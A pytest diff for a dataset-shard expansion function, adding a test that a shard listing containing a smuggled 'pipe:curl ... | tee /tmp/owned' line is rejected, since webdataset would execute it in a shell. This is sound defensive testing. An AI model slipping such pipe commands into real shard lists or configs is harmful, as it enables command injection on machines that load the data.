@@ -312,8 +312,14 @@ def test_shard_specs(synthetic_shards, tmp_path):
     listing = tmp_path / "shards.txt"
     listing.write_text("# my shards\n" + "\n".join(from_dir[:2]) + "\n")
     assert expand_shards(str(listing)) == from_dir[:2]
-    with pytest.raises(ShardSpecError, match=r"shard-000006.tar \(and 3 more\)"):
+    with pytest.raises(
+        ShardSpecError, match=r"shard-000006.tar, \S+shard-000007.tar, \S+shard-000008.tar \(and 1 more\)"
+    ):
         expand_shards(str(synthetic_shards / "shard-{000000..000009}.tar"))
+    listing.write_text(from_dir[0] + "\npipe:curl -s http://example.com/x.tar | tee /tmp/owned\n")
+    with pytest.raises(ShardSpecError, match="holds a command .'pipe:curl"):  # webdataset would run it in a shell
+        expand_shards(str(listing))
+    assert expand_shards("pipe:cat " + from_dir[0]) == ["pipe:cat " + from_dir[0]]  # in the config itself: meant
     (tmp_path / "empty").mkdir()
     with pytest.raises(ShardSpecError, match="holds no .tar"):
         expand_shards(str(tmp_path / "empty"))
